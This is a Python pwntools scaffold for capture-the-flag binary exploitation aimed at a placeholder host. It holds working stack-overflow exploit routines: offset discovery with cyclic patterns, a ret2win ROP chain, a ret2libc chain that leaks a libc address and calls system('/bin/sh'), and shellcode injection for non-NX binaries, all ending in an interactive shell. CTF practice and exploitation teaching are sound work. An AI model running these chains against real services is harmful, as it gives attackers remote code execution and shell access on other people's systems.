#!/usr/bin/env python3
# pwntools scaffold. Usage:
#   python3 pwn_template.py LOCAL
#   python3 pwn_template.py REMOTE HOST=chall.ctf.example PORT=31337
#   python3 pwn_template.py GDB
from pwn import *

BIN = "./chall"
LIBC = "./libc.so.6"
elf = context.binary = ELF(BIN, checksec=False)
libc = ELF(LIBC, checksec=False) if os.path.exists(LIBC) else None
context.log_level = "info"

gdbscript = """
b *main
continue
"""


def start():
    if args.REMOTE:
        return remote(args.HOST or "chall.ctf.example", int(args.PORT or 31337))
    if args.GDB:
        return gdb.debug([elf.path], gdbscript=gdbscript)
    return process([elf.path])


def find_offset():
    p = process([elf.path])
    p.sendline(cyclic(512))
    p.wait()
    core = p.corefile
    off = cyclic_find(core.read(core.rsp, 8) if context.bits == 64 else core.eip)
    log.success(f"offset = {off}")
    return off


OFFSET = 40  # set from find_offset()


def ret2win(io):
    rop = ROP(elf)
    ret = rop.find_gadget(["ret"])[0]  # stack alignment for movaps
    io.sendlineafter(b"> ", flat({OFFSET: [ret, elf.sym["win"]]}))


def ret2libc(io):
    rop = ROP(elf)
    rop.puts(elf.got["puts"])
    rop.call(elf.sym["main"])
    io.sendlineafter(b"> ", flat({OFFSET: rop.chain()}))
    leak = u64(io.recvline().strip().ljust(8, b"\0"))
    libc.address = leak - libc.sym["puts"]
    log.success(f"libc @ {libc.address:#x}")
    rop2 = ROP(libc)
    rop2.raw(rop2.find_gadget(["ret"])[0])
    rop2.system(next(libc.search(b"/bin/sh\0")))
    io.sendlineafter(b"> ", flat({OFFSET: rop2.chain()}))


def shellcode_nx_off(io):
    # NX disabled + leaked stack address: classic challenge pattern.
    io.recvuntil(b"buffer at ")
    buf = int(io.recvline(), 16)
    sc = asm(shellcraft.sh())
    io.sendlineafter(b"> ", flat({0: sc, OFFSET: buf}))


if __name__ == "__main__":
    if args.OFFSET:
        find_offset()
        raise SystemExit
    io = start()
    ret2win(io)         # swap for ret2libc(io) / shellcode_nx_off(io)
    io.interactive()    # then: cat flag.txt
